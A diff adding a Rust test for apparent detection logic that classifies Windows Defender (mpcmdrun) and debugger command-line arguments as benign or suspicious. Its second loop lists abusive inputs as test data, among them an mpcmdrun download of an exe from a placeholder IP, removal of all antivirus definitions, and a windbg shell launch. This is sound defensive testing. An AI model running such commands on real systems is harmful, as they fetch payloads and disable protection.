@@ -126,3 +126,39 @@ fn paths_of_programs_are_found_among_arguments() {
     assert_eq!(found, [r"C:\a b\x.exe", r"D:\y\z.dll"]);
     assert!(paths_to_programs("run --config C:\\x\\config.toml").is_empty());
 }
+
+#[test]
+fn defender_that_scans_and_debuggers_that_take_over_carry_nothing() {
+    // Arguments of the tasks of Windows Defender, and of AeDebug.
+    for (program, rest) in [
+        ("mpcmdrun", "-IdleTask -TaskName WdCacheMaintenance"),
+        (
+            "mpcmdrun",
+            "Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob",
+        ),
+        ("mpcmdrun", "Scan -ScheduleJob -RestrictPrivileges"),
+        ("mpcmdrun", "-SignatureUpdate"),
+        ("vsjitdebugger", "-p %ld -e %ld -j 0x%p"),
+        ("windbg", "-p %ld -e %ld -g"),
+        ("ntsd", "-p %ld -e %ld -g -z 0x%p"),
+    ] {
+        let loaded = [Library("MpClient.dll".into())];
+        let expected = loaded.get(usize::from(program != "mpcmdrun")..);
+        assert_eq!(Some(&of(program, rest)[..]), expected, "{program} {rest}");
+    }
+    for (program, rest) in [
+        (
+            "mpcmdrun",
+            r"-DownloadFile -url http://203.0.113.7/a -path C:\x.exe",
+        ),
+        ("mpcmdrun", "-RemoveDefinitions -All"),
+        ("mpcmdrun", r"-Scan -ScanType 3 -File C:\x"),
+        ("windbg", r#"-p %ld -e %ld -c ".shell C:\x.exe""#),
+        ("windbg", r"-p %ld -cf C:\x.txt"),
+        ("windbg", r"-z C:\x.dmp"),
+        ("cdb", r"C:\x.exe"),
+        ("vsjitdebugger", r"C:\x.exe"),
+    ] {
+        assert!(!of(program, rest).is_empty(), "{program} {rest}");
+    }
+}
